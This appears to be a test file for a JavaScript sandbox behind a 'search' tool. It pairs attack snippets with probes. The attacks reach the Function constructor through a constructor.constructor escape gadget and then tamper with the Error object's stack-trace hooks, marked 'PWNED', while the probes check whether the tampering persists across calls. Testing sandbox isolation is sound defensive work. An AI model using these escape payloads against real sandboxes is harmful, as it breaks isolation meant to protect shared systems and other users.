HOLDER = "const F = Object.getPrototypeOf(specs.cnt.paths).constructor.constructor; const HE = F('return Error')();"
HOLDER_PROBE = """async () => {
  const out = [];
  for (const f of [() => specs.cnt.constructor.keys(null),
                   () => Object.getPrototypeOf(specs.cnt.paths).constructor.defineProperty(specs.cnt, 'x', {value: 1}),
                   () => specs.cnt.constructor.constructor('null.x')(),
                   () => specs.cnt.components.schemas.Node.properties.next.constructor.keys(undefined)]) {
    try { f(); out.push('none'); } catch (e) { out.push(String(e && e.message).slice(0, 60) + '|' + /PWNED/.test(String(e && e.stack))); }
  }
  return out.join(';');
}"""
pair("holder-prepare-stack-trace", "search",
     "async () => { " + HOLDER + " try { HE.prepareStackTrace = (e, frames) => { try { e.message = 'PWNED ' + frames.length; } catch (x) {} return 'PWNED'; }; } catch (e) {} }",
     HOLDER_PROBE)
pair("holder-prepare-stack-trace-uncaught", "search",
     "async () => { " + HOLDER + " try { HE.prepareStackTrace = (e) => { try { e.message = 'PWNED'; } catch (x) {} return 'PWNED'; }; } catch (e) {} }",
     "async () => specs.cnt.constructor.keys(null)")
pair("holder-stack-trace-limit", "search",
     "async () => { " + HOLDER + " try { HE.stackTraceLimit = {valueOf() { throw new Error('PWNED-stl'); }}; } catch (e) {} }",
     HOLDER_PROBE)
pair("holder-capture-stack-trace", "search",
     "async () => { " + HOLDER + " try { HE.captureStackTrace = () => 'PWNED'; } catch (e) {} try { HE.leak = 'PWNED'; } catch (e) {} }",
     "async () => { " + HOLDER + " return [typeof HE.captureStackTrace, String(HE.leak)].join(); }")
pair("holder-function-state", "search",
     "async () => { " + HOLDER + " try { const log = F('return []')(); HE.prepareStackTrace = (e, frames) => { log.push(1); return 'seen ' + log.length + ' PWNED'; }; } catch (e) {} }",
     HOLDER_PROBE)
